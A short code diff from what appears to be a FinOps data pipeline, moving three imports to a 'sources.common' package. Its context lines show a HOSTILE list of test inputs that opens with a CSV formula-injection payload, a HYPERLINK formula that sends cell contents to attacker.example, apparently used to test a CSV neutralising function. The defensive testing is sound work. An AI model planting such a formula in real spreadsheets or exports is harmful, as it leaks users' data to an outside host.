@@ -18,9 +18,9 @@ from pipelines.lib.ingest.landing import pending_deliveries
 from pipelines.lib.reporting.csv_safety import neutralise
 from pipelines.lib.reporting.focus_export import export_focus
 from pipelines.lib.settings import PROJECT_ROOT, FinopsHome
-from sources.delivery import Delivery
-from sources.errors import RejectedInput
-from sources.manifests import listed_data_files
+from sources.common.delivery import Delivery
+from sources.common.errors import RejectedInput
+from sources.common.manifests import listed_data_files
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?leak="&A1, "click")',
